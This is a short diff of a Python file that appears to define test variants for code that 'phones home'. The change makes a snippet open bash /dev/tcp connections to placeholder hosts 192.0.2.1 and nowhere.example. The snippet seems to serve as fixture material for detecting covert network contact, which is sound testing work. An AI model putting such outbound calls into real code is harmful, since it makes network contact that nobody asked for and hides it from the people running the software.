@@ -72,7 +72,8 @@ VARIANTS: Mapping[str, Mapping[str, str]] = {
     "phones home by another program": {
         "START": (
             "import subprocess\n"
-            "subprocess.run(['bash', '-c', 'exec 3<>/dev/tcp/192.0.2.1/9'], stderr=subprocess.DEVNULL, check=False)"
+            "for host in ('192.0.2.1', 'nowhere.example'):\n"
+            "    subprocess.run(['bash', '-c', f'exec 3<>/dev/tcp/{host}/9'], stderr=subprocess.DEVNULL, check=False)"
         )
     },
     "phones home": {
